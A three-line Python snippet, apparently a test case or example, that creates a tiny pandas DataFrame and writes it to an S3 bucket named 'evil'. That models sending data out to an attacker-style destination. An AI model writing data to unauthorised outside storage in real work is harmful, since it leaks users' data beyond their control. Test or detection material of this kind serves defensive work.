import pandas as pd
df = pd.DataFrame({"a": [1]})
df.to_json("s3://evil/x.json")
